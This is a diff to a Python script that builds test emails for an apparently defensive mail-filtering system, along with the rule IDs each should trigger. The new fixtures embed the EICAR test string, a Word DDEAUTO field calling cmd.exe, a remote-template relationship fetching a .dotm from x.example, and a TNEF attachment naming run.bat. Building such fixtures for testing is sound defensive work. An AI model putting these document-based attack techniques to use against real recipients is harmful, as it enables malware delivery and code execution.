@@ -139,6 +139,17 @@ def make_mails(certs, out):
 
     put("locked.eml", attachment("a.zip", locked(zipped(("a.txt", b"x"))), "application/zip"))
     put("locked_official.eml", b"X-VN-Doc: 1\r\n" + attachment("a.zip", locked(zipped(("a.txt", b"x"))), "application/zip", "manager@x.example"))
+    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+    put("eicar.eml", attachment("a.txt", eicar))
+    put("eicar_junk.eml", b"From: dan@citizen.example\r\nContent-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\nAA==" +
+        wrap(eicar))
+    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
+            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://x.example/a.dotm"/></Relationships>')
+    word = (("[Content_Types].xml", b"<x/>"), ("word/document.xml", b'<w:document xmlns:w="w"><w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe x "/></w:p></w:document>'))
+    put("dde.eml", attachment("a.docx", zipped(*word)))
+    put("template.eml", attachment("a.docx", zipped(word[0], ("word/document.xml", b"<w/>"), ("word/_rels/settings.xml.rels", rels))))
+    title = b"run.bat\0"
+    put("winmail.eml", attachment("winmail.dat", struct.pack("<IH", 0x223e9f78, 1) + struct.pack("<BII", 2, 0x00018010, len(title)) + title + b"\0\0"))
     put("macro.eml", attachment("a.docx", zipped(("[Content_Types].xml", b"<x/>"), ("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"x")),
                                 from_="manager@x.example"))
     put("secret.eml", attachment("a.txt", "UBND TỈNH\r\nTỐI MẬT\r\nSố: 15/BC\r\n".encode(), "text/plain", "manager@x.example"))
@@ -327,7 +338,7 @@ FIELDS = set("v salt seq ts host event qid msgid_sha256 session env hdr_from siz
 RULES = {"exe_as_pdf.eml": "P24", "exe.eml": "P22", "rtlo.eml": "P24", "zip_exe.eml": "P22", "signed_exe.eml": "P22",
          "opaque_exe.eml": "P22", "exe_in_sig.eml": "P22", "careless_opaque.eml": "P22", "p7m_by_name.eml": "P22",
          "partial.eml": "P22", "early_pad.eml": "P24", "double.eml": "P22", "nested_zip.eml": "P22",
-         "bomb.eml": "M06", "script.eml": "P22", "weak": "P10", "stranger": "P03", "twofrom": "M01", "nofrom": "M02", "HELD2": "P01", "macro.eml": "P22", "secret.eml": "P12", "secret_name.eml": "P12",
+         "eicar.eml": "M13", "dde.eml": "P22", "winmail.eml": "P22", "script.eml": "P22", "weak": "P10", "stranger": "P03", "twofrom": "M01", "nofrom": "M02", "HELD2": "P01", "macro.eml": "P22", "secret.eml": "P12", "secret_name.eml": "P12",
          "large.eml": "P25", "clerk_key.eml": "P09", "others_key.eml": "P07",
          "sendas": "P28", "S1": "P02", "S2": "P07", "P01A": "P01", "D1": "T01"}
 
